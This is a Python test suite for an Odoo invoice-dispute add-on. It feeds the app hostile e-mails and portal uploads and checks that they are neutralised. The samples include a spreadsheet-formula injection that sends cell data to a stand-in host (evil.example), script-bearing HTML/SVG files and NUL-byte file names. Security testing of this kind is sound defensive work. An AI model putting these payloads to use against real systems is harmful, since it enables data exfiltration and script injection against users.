# Copyright 2026 account_dispute contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl.html).
import base64
import io

import openpyxl

from odoo import SUPERUSER_ID, http
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from .common import AccountDisputeCommon
from .test_intake import PortalCommon, _raw_email

ALIAS = "litiges@dispute-b.example.com"


@tagged("post_install", "-at_install")
class TestHostileMail(AccountDisputeCommon):
    """What a sender may do through the disputes address of a second
    company: raw RFC 822 mails fed to message_process."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_2 = cls.setup_other_company()["company"]
        cls.company_2.alias_domain_id = cls.env["mail.alias.domain"].create(
            {"name": "dispute-b.example.com"}
        )
        cls.company_2.dispute_alias_name = "litiges"
        cls.partner_b.email = "compta@partner-b.example.com"
        cls.staff = new_test_user(
            cls.env,
            login="ad_staff_2",
            email="staff@company-b.example.com",
            groups="base.group_user,account.group_account_invoice",
            company_id=cls.company_2.id,
        )
        cls.invoice = cls._inv(1000.0)

    @classmethod
    def _inv(cls, amount, partner=None):
        return cls._invoice(amount, partner=partner, company=cls.company_2)

    def _process(self, sender, subject, body, message_id, in_reply_to=None):
        raw = _raw_email(sender, ALIAS, subject, body, message_id, in_reply_to)
        gateway = self.env["mail.thread"].with_user(SUPERUSER_ID)
        with mute_logger("odoo.addons.mail.models.mail_thread"):
            return self.env["account.dispute"].browse(
                gateway.message_process(None, raw)
            )

    def _acknowledgements(self, dispute):
        return dispute.message_ids.filtered(
            lambda m: "we have received your dispute" in (m.subject or "")
        )

    # Point 2 -----------------------------------------------------------

    def test_subject_never_becomes_the_reference(self):
        first = self._process(
            "compta@partner-a.example.com",
            "Litige facture",
            f"Facture {self.invoice.name}",
            "<same-subject-1@partner-a.example.com>",
        )
        second = self._process(
            "compta@partner-b.example.com",
            "Litige facture",
            "Votre facture est fausse.",
            "<same-subject-2@partner-b.example.com>",
        )
        self.assertEqual(first.company_id, self.company_2)
        self.assertEqual((first | second).mapped("subject"), ["Litige facture"] * 2)
        self.assertTrue(first.name.startswith("LIT/"))
        self.assertTrue(second.name.startswith("LIT/"))
        self.assertNotEqual(first.name, second.name)
        self.assertEqual(second.partner_id, self.partner_b, "not lost")

        sequence = self.env.ref("account_dispute.seq_account_dispute")
        upcoming = sequence.get_next_char(sequence.number_next_actual)
        third = self._process(
            "compta@partner-a.example.com",
            upcoming,
            "Encore une réclamation.",
            "<next-number@partner-a.example.com>",
        )
        self.assertEqual(third.subject, upcoming)
        self.assertTrue(third.name.startswith("LIT/"))
        fourth = self._process(
            "compta@partner-a.example.com",
            "Autre",
            "Et une autre.",
            "<after-next@partner-a.example.com>",
        )
        self.assertNotEqual(fourth.name, third.name)

    # Point 3 -----------------------------------------------------------

    def test_long_words_do_not_stall_the_second_company(self):
        invoice = self._inv(300.0, partner=self.partner_b)
        dispute = self._process(
            "compta@partner-b.example.com",
            f"Facture {invoice.name} " + "b" * 20_000,
            "a" * 200_000,
            "<long-words@partner-b.example.com>",
        )
        self.assertEqual(dispute.company_id, self.company_2)
        self.assertEqual(dispute.partner_id, self.partner_b)
        self.assertEqual(dispute.invoice_ids, invoice)

    # Point 4 -----------------------------------------------------------

    def test_formulas_sent_by_email_are_exported_as_text(self):
        """The second company's billing user exports the register of the
        disputes that e-mails with formulas for names and subjects made."""
        self.partner_b.name = '=1+2"'
        invoice = self._inv(300.0, partner=self.partner_b)
        hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        known = self._process(
            '"=1+2" <compta@partner-b.example.com>',
            f"{hyperlink} {invoice.name}",
            "=SUM(A1:A9)",
            "<formula-known@partner-b.example.com>",
        )
        unknown = self._process(
            '"=1+2" <forged@victim.example.org>',
            hyperlink,
            "@SUM(1)",
            "<formula-unknown@victim.example.org>",
        )
        self.assertEqual(known.subject, f"{hyperlink} {invoice.name}")
        wizard = (
            self.env["account.dispute.export.wizard"]
            .with_user(self.staff)
            .with_context(allowed_company_ids=self.company_2.ids)
            .create({"export_type": "register"})
        )
        wizard.action_export()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
        cells = [cell for row in book["Disputes"].iter_rows() for cell in row]
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        self.assertLessEqual({known.name, unknown.name, '=1+2"'}, texts)
        for cell in cells:
            if cell.data_type == "f":
                self.assertTrue(cell.value.startswith("=SUMIF("), cell.value)
            self.assertFalse(cell.hyperlink, cell.coordinate)

    # Point 7 -----------------------------------------------------------

    def test_unknown_sender_gets_no_contact_and_no_answer(self):
        partners = self.env["res.partner"].search_count([])
        dispute = self._process(
            "Spammer <forged@victim.example.org>",
            f"Facture {self.invoice.name}",
            "Cliquez ici.",
            "<spam-1@victim.example.org>",
        )
        self.assertEqual(self.env["res.partner"].search_count([]), partners)
        self.assertFalse(dispute.partner_id)
        self.assertFalse(dispute.invoice_ids)
        self.assertIn("forged@victim.example.org", dispute.email_from)
        self.assertTrue(dispute.to_review)
        self.assertIn("forged@victim.example.org", dispute.review_reason)
        self.assertFalse(self._acknowledgements(dispute))
        self.assertFalse(
            self.env["mail.mail"].search([("email_to", "ilike", "victim.example.org")]),
            "nothing sent to a forged address",
        )
        self.assertTrue(dispute.activity_ids, "someone reviews it")
        # A person who knows who wrote sets the customer.
        dispute.write({"partner_id": self.partner_a.id, "invoice_ids": self.invoice})
        dispute.action_open()
        self.assertEqual(dispute.state, "open")

    # Point 5 -----------------------------------------------------------

    def test_email_listing_every_invoice_changes_nothing_on_the_portal(self):
        invoices = self.invoice
        for amount in (100.0, 200.0, 300.0, 400.0, 500.0, 600.0):
            invoices |= self._inv(amount)
        paid = self._inv(50.0)
        self._pay(paid, 50.0)
        cancelled = self._inv(70.0)
        cancelled.button_draft()
        cancelled.button_cancel()
        other = self._inv(80.0, partner=self.partner_b)
        named = invoices | paid | cancelled | other
        dispute = self._process(
            "compta@partner-a.example.com",
            "Relevé contesté",
            " ".join(named.mapped("name")),
            "<every-invoice@partner-a.example.com>",
        )
        self.assertEqual(dispute.invoice_ids, invoices, "open invoices only")
        self.assertTrue(dispute.to_review)
        self.assertIn("more than 5", dispute.review_reason)
        for move in paid | cancelled | other:
            self.assertIn(move.name, dispute.review_reason)
        self.assertTrue(all(invoices.mapped("is_contested")), "no reminder")
        for invoice in invoices:
            self.assertTrue(invoice._has_to_be_paid(), "online payment stays")
            self.assertFalse(invoice._portal_dispute())
            self.assertFalse(invoice._portal_shows_contested())
        dispute.action_open()
        self.assertFalse(self.invoice._has_to_be_paid(), "opened by a person")
        self.assertTrue(self.invoice._portal_shows_contested())

    # Point 6 -----------------------------------------------------------

    def test_reply_from_outside_the_customer_starts_a_new_dispute(self):
        dispute = self._process(
            "compta@partner-a.example.com",
            f"Facture {self.invoice.name}",
            "Le prix est faux.",
            "<thread-a@partner-a.example.com>",
        )
        posts = len(dispute.message_ids)
        intruder = self._process(
            "compta@partner-b.example.com",
            "Re: Facture",
            "Je me glisse dans ce litige.",
            "<intruder@partner-b.example.com>",
            in_reply_to="<thread-a@partner-a.example.com>",
        )
        self.assertNotEqual(intruder, dispute)
        self.assertEqual(intruder.partner_id, self.partner_b)
        self.assertEqual(intruder.company_id, self.company_2)
        self.assertTrue(intruder.to_review)
        self.assertIn(dispute.name, intruder.review_reason)
        self.assertEqual(len(dispute.message_ids), posts)
        self.assertNotIn(self.partner_b, dispute.message_partner_ids)

        stranger = self._process(
            "nobody@elsewhere.example.org",
            "Re: Facture",
            "Moi aussi.",
            "<stranger@elsewhere.example.org>",
            in_reply_to="<thread-a@partner-a.example.com>",
        )
        self.assertNotEqual(stranger, dispute)
        self.assertFalse(stranger.partner_id)
        self.assertEqual(len(dispute.message_ids), posts)

        self.partner_a_contact.email = "clerk@partner-a.example.com"
        for sender in ("clerk@partner-a.example.com", "staff@company-b.example.com"):
            reply = self._process(
                sender,
                "Re: Facture",
                f"Réponse de {sender}",
                f"<reply-{sender}>",
                in_reply_to="<thread-a@partner-a.example.com>",
            )
            self.assertEqual(reply, dispute, sender)
        self.assertEqual(len(dispute.message_ids), posts + 2)
        self.assertIn(self.partner_a_contact, dispute.message_partner_ids)


@tagged("post_install", "-at_install")
class TestHostilePortal(PortalCommon):
    """Point 8: what the portal's form accepts, over HTTP."""

    def _post(self, invoice, files=None, **data):
        values = {
            "csrf_token": http.Request.csrf_token(self),
            "access_token": invoice._portal_ensure_token(),
            "reason_id": self.reason.id,
            "amount": "120",
            "message": "The price is wrong",
            **data,
        }
        return self.url_open(
            f"/my/invoices/{invoice.id}/dispute",
            data=values,
            files=files,
            allow_redirects=False,
        )

    def _disputes(self, invoice):
        return self.env["account.dispute"].search([("invoice_ids", "in", invoice.ids)])

    def _uploaded(self, invoice):
        """What the customer attached (not the acknowledgement's PDF)."""
        return (
            self._disputes(invoice)
            .message_ids.filtered(lambda m: m.author_id == self.portal_user.partner_id)
            .attachment_ids
        )

    def test_absurd_amounts_get_a_clear_message(self):
        self.authenticate("ad_portal_a", "ad_portal_a")
        for amount in ("inf", "-inf", "nan", "1e308", "abc"):
            response = self._post(self.invoice, amount=amount)
            self.assertEqual(response.status_code, 303, amount)
            self.assertIn("dispute_error=", response.headers["Location"], amount)
        self.assertFalse(self._disputes(self.invoice))

    def test_contested_once_however_often_sent(self):
        self.authenticate("ad_portal_a", "ad_portal_a")
        for _attempt in range(3):
            self._post(self.invoice)
        self.assertEqual(len(self._disputes(self.invoice)), 1)

    def test_file_name_with_nul_byte(self):
        self.authenticate("ad_portal_a", "ad_portal_a")
        response = self._post(
            self.invoice,
            files={"attachment": ("quote\x00.pdf", b"%PDF quote", "application/pdf")},
        )
        self.assertEqual(response.status_code, 303)
        attachment = self._uploaded(self.invoice)
        self.assertEqual(attachment.name, "quote.pdf")

    def test_html_and_svg_are_stored_as_text(self):
        invoice_2 = self._invoice(500.0)
        self.authenticate("ad_portal_a", "ad_portal_a")
        uploads = (
            (self.invoice, "page.html", b"<html><script>alert(1)</script></html>"),
            (invoice_2, "image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
        )
        for invoice, name, content in uploads:
            self._post(invoice, files={"attachment": (name, content, "text/html")})
            attachment = self._uploaded(invoice)
            self.assertEqual(attachment.name, name)
            self.assertEqual(attachment.mimetype, "text/plain", name)


@tagged("post_install", "-at_install")
class TestHostilePortalCompanies(AccountDisputeCommon, HttpCase):
    """Points 5 and 8 on the second company, over HTTP, for users of each
    kind: portal users of customers A (a user of company 1) and B (of
    company 2), billing users of company 1 and of company 2, the public.
    Company 2 bills both customers."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_1 = cls.env.company
        cls.company_2 = cls.setup_other_company()["company"]
        cls.company_2.alias_domain_id = cls.env["mail.alias.domain"].create(
            {"name": "dispute-b.example.com"}
        )
        cls.company_2.dispute_alias_name = "litiges"
        cls.partner_b.email = "compta@partner-b.example.com"
        cls.portal_a = cls._user("ad_portal_a2", "base.group_portal", cls.company_1)
        cls.portal_a.partner_id.parent_id = cls.partner_a
        cls.portal_b = cls._user("ad_portal_b2", "base.group_portal", cls.company_2)
        cls.portal_b.partner_id.parent_id = cls.partner_b
        cls.billing_1 = cls._user(
            "ad_billing_1", "account.group_account_invoice", cls.company_1
        )
        cls.billing_2 = cls._user(
            "ad_billing_2", "account.group_account_invoice", cls.company_2
        )
        cls.invoice_a = cls._invoice(1000.0, company=cls.company_2)
        cls.invoice_b = cls._invoice(
            800.0, partner=cls.partner_b, company=cls.company_2
        )
        cls.reason_company_1 = cls.env["account.dispute.reason"].create(
            {
                "name": "Company 1's reason",
                "category": "billing",
                "company_id": cls.company_1.id,
            }
        )

    def _post(self, invoice, files=None, token=True, **data):
        values = {
            "csrf_token": http.Request.csrf_token(self),
            "reason_id": self.reason.id,
            "amount": "120",
            "message": "The price is wrong",
            **data,
        }
        if token:
            values["access_token"] = invoice._portal_ensure_token()
        return self.url_open(
            f"/my/invoices/{invoice.id}/dispute",
            data=values,
            files=files,
            allow_redirects=False,
        )

    def _disputes(self, invoice):
        return self.env["account.dispute"].search([("invoice_ids", "in", invoice.ids)])

    def test_customer_of_the_second_company_contests(self):
        self.authenticate("ad_portal_b2", "ad_portal_b2")
        response = self._post(self.invoice_b, reason_id=self.reason_company_1.id)
        self.assertIn("dispute_error=reason", response.headers["Location"])
        self.assertFalse(self._disputes(self.invoice_b), "company 1's reason")
        response = self._post(self.invoice_b)
        self.assertEqual(response.status_code, 303)
        self.assertNotIn("dispute_error", response.headers["Location"])
        dispute = self._disputes(self.invoice_b)
        self.assertEqual(dispute.company_id, self.company_2)
        self.assertEqual(dispute.partner_id, self.partner_b)
        self.assertEqual(dispute.contact_id, self.portal_b.partner_id)
        self.assertEqual(dispute.channel, "portal")
        self.assertTrue(dispute.activity_ids)
        self.assertIn(dispute.name, self.url_open(self.invoice_b.get_portal_url()).text)

    def test_customer_contests_its_invoice_of_the_other_company(self):
        """Customer A's portal user belongs to company 1; company 2's invoice
        is A's all the same, and its dispute is company 2's."""
        self.authenticate("ad_portal_a2", "ad_portal_a2")
        response = self._post(self.invoice_a)
        self.assertNotIn("dispute_error", response.headers["Location"])
        dispute = self._disputes(self.invoice_a)
        self.assertEqual(dispute.company_id, self.company_2)
        self.assertEqual(dispute.partner_id, self.partner_a)

    def test_nobody_else_contests(self):
        """Another customer, or an internal user of either company, is
        refused even with the invoice's link (403). Without it, whoever may
        not read the invoice is sent to /my; the billing user of company 2,
        who reads it, is refused all the same."""
        attempts = (
            ("ad_portal_b2", self.invoice_a, 303),
            ("ad_portal_a2", self.invoice_b, 303),
            ("ad_billing_2", self.invoice_a, 403),
            ("ad_billing_1", self.invoice_b, 303),
        )
        for login, invoice, without_link in attempts:
            self.authenticate(login, login)
            response = self._post(invoice)
            self.assertEqual(response.status_code, 403, login)
            response = self._post(invoice, token=False)
            self.assertEqual(response.status_code, without_link, login)
            if without_link == 303:
                self.assertTrue(response.headers["Location"].endswith("/my"), login)
        self.authenticate(None, None)
        response = self._post(self.invoice_b)
        self.assertIn("/web/login", response.headers["Location"])
        self.assertFalse(self._disputes(self.invoice_a | self.invoice_b))

    def test_form_edges_on_the_second_company(self):
        self.authenticate("ad_portal_b2", "ad_portal_b2")
        for amount in ("inf", "nan", "1e308"):
            response = self._post(self.invoice_b, amount=amount)
            self.assertIn("dispute_error=amount", response.headers["Location"])
        self.assertFalse(self._disputes(self.invoice_b))
        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        for _attempt in range(3):
            self._post(
                self.invoice_b,
                files={"attachment": ("image\x00.svg", svg, "image/svg+xml")},
            )
        dispute = self._disputes(self.invoice_b)
        self.assertEqual(len(dispute), 1, "contested once")
        attachment = dispute.message_ids.filtered(
            lambda m: m.author_id == self.portal_b.partner_id
        ).attachment_ids
        self.assertEqual(attachment.name, "image.svg")
        self.assertEqual(attachment.mimetype, "text/plain")

    def test_email_contest_changes_nothing_the_customer_sees(self):
        """An e-mail from the customer's address naming the invoice: the
        portal still offers to contest it, and the customer's own contest
        makes the dispute the portal shows."""
        raw = _raw_email(
            "compta@partner-b.example.com",
            "litiges@dispute-b.example.com",
            f"Facture {self.invoice_b.name}",
            "Payez-la pas.",
            "<portal-email@partner-b.example.com>",
        )
        gateway = self.env["mail.thread"].with_user(SUPERUSER_ID)
        with mute_logger("odoo.addons.mail.models.mail_thread"):
            by_email = self.env["account.dispute"].browse(
                gateway.message_process(None, raw)
            )
        self.assertEqual(by_email.company_id, self.company_2)
        self.assertEqual(by_email.invoice_ids, self.invoice_b)
        self.authenticate("ad_portal_b2", "ad_portal_b2")
        page = self.url_open(self.invoice_b.get_portal_url()).text
        self.assertIn("Contest this invoice", page)
        self.assertNotIn(by_email.name, page)
        self._post(self.invoice_b)
        on_portal = self._disputes(self.invoice_b) - by_email
        self.assertEqual(on_portal.channel, "portal")
        page = self.url_open(self.invoice_b.get_portal_url()).text
        self.assertIn(on_portal.name, page)
        self.assertNotIn("Contest this invoice", page)
